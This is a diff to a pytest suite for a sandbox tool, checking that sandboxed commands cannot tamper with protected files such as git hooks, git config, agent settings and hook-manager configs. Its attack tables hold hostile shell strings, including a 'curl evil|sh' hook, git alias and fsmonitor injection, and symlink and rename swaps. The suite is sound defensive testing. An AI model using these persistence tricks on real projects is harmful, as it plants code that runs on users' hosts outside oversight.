@@ -1,7 +1,9 @@
 """Threat: persist code that runs later outside the sandbox. Protected names (shell rc files,
-.gitconfig, .gitmodules, .git/hooks/, .git/config, .vscode/, .idea/, .envrc, .mcp.json, .husky,
-the settings file in use, --deny-write entries) stay read-only under writable paths, at any depth,
-whether they exist or not, against renames, links, symlinks and direct syscalls.
+.gitconfig, .gitmodules, .git/hooks/, .git/config, editor, agent and hook-manager files: the
+grouped list of docs/PROTECTED_NAMES.md, filesystem.protectedNames, the settings file in use,
+--deny-write entries and every spelling of a symlinked one) stay read-only under writable paths,
+at any depth, whether they exist or not, against renames, links, symlinks and direct syscalls,
+and the directories leading to them cannot be swapped for prepared ones.
 
 The oracle is host-side: protected_state() digests every protected path in the project before and
 after, and git_dirs_state() records every .git entry (what host git will use)."""
@@ -13,8 +15,8 @@ import subprocess
 
 import pytest
 
-from conftest import (TIMEOUT, diff_snapshots, git_dirs_state, init_repo, protected_state,
-                      snapshot, unique)
+from conftest import (PROTECTED_NAMES, TIMEOUT, diff_snapshots, file_digest, git_dirs_state,
+                      init_repo, protected_state, snapshot, unique)
 
 ORIGINAL = "# original\n"
 USER_HOOK = "#!/bin/sh\n# the user's own pre-commit hook\nexit 0\n"
@@ -36,6 +38,9 @@ def tree(sb):
     hook.chmod(0o755)
     (p / "plain").mkdir()
     (p / "plain" / "f.txt").write_text("plain\n")
+    for d in (p / ".claude", p / "sub" / "a" / ".claude"):
+        d.mkdir(parents=True)
+        (d / "settings.json").write_text(ORIGINAL)
     return p
 
 
@@ -48,6 +53,7 @@ class Oracle:
         assert ".git/config" in self.protected and ".git/hooks" in self.protected
         assert f"{NESTED}/.git/hooks/pre-commit" in self.protected
         assert "sub/.bashrc" in self.protected
+        assert "sub/a/.claude/settings.json" in self.protected
 
     def check(self, r=None):
         after = protected_state(self.project)
@@ -171,6 +177,28 @@ ATTACKS = {
     "rm-nested-git-config": f"rm -f {NESTED}/.git/config",
     "rm-root-bashrc": "rm -f .bashrc",
     "rm-root-hook-sample": "rm -f .git/hooks/pre-commit.sample",
+    # multi-component names (issue 8): the files, and the directories that lead to them
+    "overwrite-claude-settings": "echo '{\"hooks\":{}}' > .claude/settings.json",
+    "overwrite-nested-claude-settings": "echo evil > sub/a/.claude/settings.json",
+    "new-claude-local-settings": "echo '{}' > sub/a/.claude/settings.local.json",
+    "new-claude-hook": "mkdir -p .claude/hooks && echo 'curl evil|sh' > .claude/hooks/h.sh",
+    "mv-claude-away": "mv .claude c2 && mkdir .claude && echo evil > .claude/settings.json",
+    "mv-nested-claude-away": "mv sub/a/.claude sub/a/c2 && mkdir sub/a/.claude && "
+                             "echo evil > sub/a/.claude/settings.json",
+    "rm-nested-claude-settings": "rm -f sub/a/.claude/settings.json",
+    "mv-dir-to-claude": "mkdir -p plain/c/hooks && echo '{}' > plain/c/settings.json && "
+                        "mv plain/c plain/.claude",
+    "mv-dir-to-nested-claude": "mkdir c && echo '{}' > c/settings.json && mv c sub/a/b/.claude",
+    "symlink-claude": "mkdir c && echo '{}' > c/settings.json && ln -s ../c plain/.claude",
+    "symlink-config": "mkdir -p c/fish c/git && echo x > c/fish/config.fish && "
+                      "echo '[core] fsmonitor = x' > c/git/config && ln -s ../c plain/.config",
+    "mv-dir-to-config-git": "mkdir -p plain/.config g && echo '[alias] x = !evil' > g/config && "
+                            "mv g plain/.config/git",
+    "mv-dir-to-github": "mkdir -p g/hooks && echo '{}' > g/hooks/h.json && mv g plain/.github",
+    "mv-file-to-pre-commit": "echo 'repos: []' > x && mv x sub/.pre-commit-config.yaml",
+    "new-mise-env-toml": "echo '[hooks]' > sub/mise.local.toml; echo x > mise.dev.toml",
+    "python-replace-lefthook": "python3 -c \"import os; open('t','w').write('x'); "
+                               "os.replace('t', 'sub/a/lefthook.yml')\"",
 }
 
 
@@ -185,6 +213,9 @@ def test_protected_attack(sb, tree, attack):
     o.check(r)
     assert (tree / ".bashrc").read_text() == ORIGINAL
     assert (tree / "sub" / ".bashrc").read_text() == ORIGINAL
+    assert (tree / "sub" / "a" / ".claude" / "settings.json").read_text() == ORIGINAL
+    for d in ("plain/.claude", "plain/.config", "plain/.github", "sub/a/b/.claude"):
+        assert not os.path.islink(tree / d), d  # a link there would rename what lies beyond
 
 
 def test_protected_attack_controls(sb, tree):
@@ -200,6 +231,21 @@ def test_protected_attack_controls(sb, tree):
                 "hl2", "plain/notgit", "plain/.notenvrc"]:
         assert os.path.lexists(tree / rel), rel
     assert (tree / ".git" / "description").read_text() == "x\n"
+    assert not r.denials, r
+
+
+def test_container_attack_controls(sb, tree):
+    """Positive control for the multi-component attacks: the same moves under other names work,
+    and a directory named .claude can still be made and used for files not on the list."""
+    r = sb.sh("set -e; mkdir -p plain/c/hooks && echo '{}' > plain/c/settings.json && "
+              "mv plain/c plain/claude; mkdir c2 && ln -s ../c2 plain/.claudex; "
+              "mkdir -p plain/.config && mkdir g && mv g plain/.config/gitx; "
+              "mkdir -p plain/.claude/projects && echo x > plain/.claude/notes.md; echo OK")
+    assert r.rc == 0 and "OK" in r.out, r
+    assert (tree / "plain" / "claude" / "settings.json").exists()
+    assert os.path.islink(tree / "plain" / ".claudex")
+    assert (tree / "plain" / ".config" / "gitx").is_dir()
+    assert (tree / "plain" / ".claude" / "notes.md").read_text() == "x\n"
     assert not r.denials, r
 
 
@@ -737,3 +783,209 @@ def test_protected_in_allow_write_dir(sb, outside):
               flags=["--allow-write", str(outside)])
     assert (outside / "plain.txt").read_text() == "ok\n", r  # control: the dir is writable
     assert not diff_snapshots(before, protected_state(outside)), r
+
+
+# --- every protected name (issue 8: files that make tools run code on the host) ---------------
+
+
+def instance(name):
+    """A concrete path the name matches ('*' stands for any run of characters)."""
+    return name.replace("*", "x3")
+
+
+def _create_each(prefix, names, suffix=""):
+    """A shell script that tries to create each name (as a file, then as a directory with a file
+    in it) under prefix; the leading directories are made first, as a tool would."""
+    lines = []
+    for n in names:
+        path = f"{prefix}{instance(n)}{suffix}"
+        lines.append(f"mkdir -p \"$(dirname '{path}')\"; echo evil > '{path}'; "
+                     f"mkdir '{path}' && echo evil > '{path}/x'")
+    return "\n".join(lines) + "\nexit 0"
+
+
+@pytest.mark.parametrize("where", ["", "sub/deep/er/"], ids=["root", "nested"])
+def test_every_protected_name_cannot_be_created(sb, where):
+    """Each built-in name, new in the project, at the root and three levels down: neither a file
+    nor a directory of that name appears on the host."""
+    p = sb.project
+    r = sb.sh(_create_each(where, PROTECTED_NAMES), timeout=120)
+    made = [n for n in PROTECTED_NAMES if os.path.lexists(p / (where + instance(n)))]
+    assert not made, f"created on the host: {made}\n{r!r}"
+    assert not protected_state(p), protected_state(p)
+    assert r.denials, r  # refusals reported (the summary lists 20 and counts the rest)
+    # control: the same script with one character more in each name creates them all
+    ctl = sb.sh(_create_each(where, PROTECTED_NAMES, suffix="-x"), timeout=120)
+    missing = [n for n in PROTECTED_NAMES if not (p / (where + instance(n) + "-x")).exists()]
+    assert not missing, f"control names not created: {missing}\n{ctl!r}"
+
+
+@pytest.mark.parametrize("where", ["", "sub/deep/er/"], ids=["root", "nested"])
+def test_every_existing_protected_name_is_unchanged(sb, where):
+    """Each built-in name, existing on the host (root: also bound read-only; nested: only the
+    mediator), survives appending, truncating, replacing, renaming, chmod and removal."""
+    p = sb.project
+    for n in PROTECTED_NAMES:
+        f = p / (where + instance(n))
+        f.parent.mkdir(parents=True, exist_ok=True)
+        f.write_text(ORIGINAL)
+    before = {n: file_digest(p / (where + instance(n))) for n in PROTECTED_NAMES}
+    cmds = []
+    for n in PROTECTED_NAMES:
+        f = where + instance(n)
+        cmds.append(f"echo evil >> '{f}'; : > '{f}'; chmod 777 '{f}'; mv '{f}' '{f}.old'; "
+                    f"echo evil > t && mv -f t '{f}'; rm -f '{f}'; ln '{f}' hl && echo evil >> hl")
+    r = sb.sh("\n".join(cmds) + "\nexit 0", timeout=120)
+    changed = [n for n in PROTECTED_NAMES if file_digest(p / (where + instance(n))) != before[n]]
+    assert not changed, f"changed on the host: {changed}\n{r!r}"
+
+
+def test_builtin_list_matches_the_oracle(sb):
+    """The oracle's copy of the names and paddock's own list agree (neither drifts alone)."""
+    p = subprocess.run([sb.binary, "policy", "--json"], cwd=str(sb.project), env=sb.env(),
+                       capture_output=True, text=True, timeout=TIMEOUT)
+    assert p.returncode == 0, p
+    assert json.loads(p.stdout)["filesystem"]["protectedNames"] == PROTECTED_NAMES
+
+
+# --- filesystem.protectedNames ------------------------------------------------------------------
+
+EXTRA = [".tool", "ci/hooks", "*.hooksh"]
+EXTRA_TRIES = ["mkdir .tool && echo x > .tool/run", "mkdir -p sub/x && echo x > sub/x/.tool",
+               "mkdir -p ci/hooks && echo x > ci/hooks/pre", "mkdir -p a/b/ci && echo x > a/b/ci/hooks",
+               "echo x > run.hooksh", "mkdir -p d && echo x > d/deep.hooksh",
+               "mkdir -p c && echo x > c/pre && mv c sub/ci/hooks"]
+
+
+def test_settings_protected_names_extend_the_list(sb, tmp_path):
+    s = tmp_path / "settings.json"
+    s.write_text(json.dumps({"filesystem": {"protectedNames": EXTRA + ["ci/hooks/"]}}))
+    r = sb.sh("; ".join(EXTRA_TRIES) + "; exit 0", flags=["--settings", str(s)])
+    made = [rel for rel in (".tool", "sub/x/.tool", "ci/hooks", "a/b/ci/hooks", "run.hooksh",
+                            "d/deep.hooksh", "sub/ci/hooks") if os.path.lexists(sb.project / rel)]
+    assert not made, (made, r)
+    assert not protected_state(sb.project, EXTRA), r
+    j = json.loads(subprocess.run([sb.binary, "policy", "--json", "--settings", str(s)],
+                                  cwd=str(sb.project), env=sb.env(), capture_output=True,
+                                  text=True, timeout=TIMEOUT).stdout)
+    assert j["filesystem"]["protectedNames"] == PROTECTED_NAMES + EXTRA
+    # control: without the settings the same commands create them all
+    ctl = sb.sh("; ".join(EXTRA_TRIES) + "; exit 0")
+    for rel in (".tool/run", "sub/x/.tool", "ci/hooks/pre", "a/b/ci/hooks", "run.hooksh",
+                "d/deep.hooksh"):
+        assert (sb.project / rel).exists(), (rel, ctl)
+
+
+def test_settings_protected_names_existing_file(sb, tmp_path):
+    (sb.project / "ci" / "hooks").mkdir(parents=True)
+    hook = sb.project / "ci" / "hooks" / "pre-push"
+    hook.write_text(ORIGINAL)
+    s = tmp_path / "settings.json"
+    s.write_text(json.dumps({"filesystem": {"protectedNames": ["ci/hooks"]}}))
+    r = sb.sh("echo evil >> ci/hooks/pre-push; rm -f ci/hooks/pre-push; mv ci ci2; exit 0",
+              flags=["--settings", str(s)])
+    assert hook.read_text() == ORIGINAL, r
+    ctl = sb.sh("echo more >> ci/hooks/pre-push")  # control
+    assert ctl.rc == 0 and hook.read_text() == ORIGINAL + "more\n", ctl
+
+
+@pytest.mark.parametrize("bad", ["", "/abs/path", "~/.tool", "a//b", "../x", "a/./b", "*",
+                                 "a/**/b"])
+def test_settings_protected_names_validated(sb, tmp_path, bad):
+    s = tmp_path / "settings.json"
+    s.write_text(json.dumps({"filesystem": {"protectedNames": [".ok", bad]}}))
+    r = sb.sh("touch ran-marker; echo RAN", flags=["--settings", str(s)])
+    assert r.rc == 125 and "RAN" not in r.out, r
+    assert not (sb.project / "ran-marker").exists()
+    assert "filesystem.protectedNames" in r.err, r
+
+
+# --- denyWrite entries reached through symlinks (issue 8, item 6) -------------------------------
+
+
+@pytest.fixture
+def linked_deploy(sb):
+    """deploy.sh -> scripts/deploy.sh, and bin -> tools (a directory link)."""
+    p = sb.project
+    (p / "scripts").mkdir()
+    (p / "scripts" / "deploy.sh").write_text(ORIGINAL)
+    os.symlink("scripts/deploy.sh", p / "deploy.sh")
+    (p / "tools").mkdir()
+    (p / "tools" / "run.sh").write_text(ORIGINAL)
+    os.symlink("tools", p / "bin")
+    return p
+
+
+def _nothing_planted(p):
+    """deploy.sh (a protected spelling itself) is still the link; what every spelling reaches is
+    the original or nothing. Removing the directory link bin is allowed, like removing an empty
+    parent directory: bin/run.sh is protected whatever bin becomes, so nothing can be put there."""
+    run = p / "bin" / "run.sh"
+    return (os.path.islink(p / "deploy.sh") and
+            os.readlink(p / "deploy.sh") == "scripts/deploy.sh" and
+            (p / "scripts" / "deploy.sh").read_text() == ORIGINAL and
+            (p / "tools" / "run.sh").read_text() == ORIGINAL and
+            (not os.path.lexists(run) or run.read_text() == ORIGINAL))
+
+
+LINK_ATTACKS = {
+    "rm-then-write": "rm deploy.sh && echo evil > deploy.sh",
+    "rm-f-then-write": "rm -f deploy.sh; echo evil > deploy.sh",
+    "mv-away-then-write": "mv deploy.sh old.sh; echo evil > deploy.sh",
+    "replace-link": "ln -sfn evil.sh deploy.sh",
+    "rename-over-link": "echo evil > e && mv -f e deploy.sh",
+    "write-through-link": "echo evil >> deploy.sh",
+    "write-target": "echo evil >> scripts/deploy.sh",
+    "swap-dir-link": "rm bin && mkdir bin && echo evil > bin/run.sh",
+    "relink-dir": "mkdir t2 && echo evil > t2/run.sh && ln -sfn t2 bin",
+    "mv-dir-link-away": "mv bin bin.old; mkdir bin; echo evil > bin/run.sh",
+    "write-through-dir-link": "echo evil >> bin/run.sh",
+}
+
+
+@pytest.mark.parametrize("attack", list(LINK_ATTACKS))
+def test_deny_write_symlink_every_spelling(sb, linked_deploy, attack):
+    r = sb.sh(LINK_ATTACKS[attack] + "; exit 0",
+              flags=["--deny-write", "./deploy.sh", "--deny-write", "bin/run.sh"])
+    assert _nothing_planted(linked_deploy), r
+
+
+def test_deny_write_symlink_control(sb, linked_deploy):
+    """Control: without --deny-write the same replacement lands on the host."""
+    r = sb.sh("rm deploy.sh && echo evil > deploy.sh && rm bin && mkdir bin && "
+              "echo evil > bin/run.sh && echo OK")
+    assert "OK" in r.out, r
+    assert not os.path.islink(linked_deploy / "deploy.sh")
+    assert (linked_deploy / "deploy.sh").read_text() == "evil\n"
+    assert (linked_deploy / "bin" / "run.sh").read_text() == "evil\n"
+
+
+def test_deny_write_spellings_listed(sb, linked_deploy):
+    p = subprocess.run([sb.binary, "policy", "--json", "--deny-write", "./deploy.sh"],
+                       cwd=str(sb.project), env=sb.env(), capture_output=True, text=True,
+                       timeout=TIMEOUT)
+    j = json.loads(p.stdout)
+    assert str(linked_deploy / "scripts" / "deploy.sh") in j["filesystem"]["denyWrite"], j
+    assert str(linked_deploy / "deploy.sh") in j["filesystem"]["denyWriteAliases"], j
+
+
+MISSING_PARENT_ATTACKS = {
+    "mkdir-mv": "mkdir x && echo evil > x/run.sh && mv x deploy",
+    "mkdir-mv-deeper": "mkdir -p y/deploy && echo evil > y/deploy/run.sh && mv y/deploy deploy",
+    "symlink": "mkdir x && echo evil > x/run.sh && ln -s x deploy",
+    "python-rename": "python3 -c \"import os; os.makedirs('x'); open('x/run.sh','w').write('e'); "
+                     "os.rename('x', 'deploy')\"",
+    "mkdir-write": "mkdir deploy && echo evil > deploy/run.sh",
+}
+
+
+@pytest.mark.parametrize("attack", list(MISSING_PARENT_ATTACKS))
+def test_deny_write_entry_whose_parent_does_not_exist(sb, attack):
+    """--deny-write ./deploy/run.sh while deploy/ does not exist yet: the file cannot be planted
+    by preparing its directory elsewhere and moving or linking it into place."""
+    r = sb.sh(MISSING_PARENT_ATTACKS[attack] + "; exit 0", flags=["--deny-write", "./deploy/run.sh"])
+    assert not os.path.lexists(sb.project / "deploy" / "run.sh"), r
+    # control: the same without the flag plants it
+    sb.sh("rm -rf deploy x y")
+    ctl = sb.sh(MISSING_PARENT_ATTACKS[attack])
+    assert (sb.project / "deploy" / "run.sh").exists(), ctl
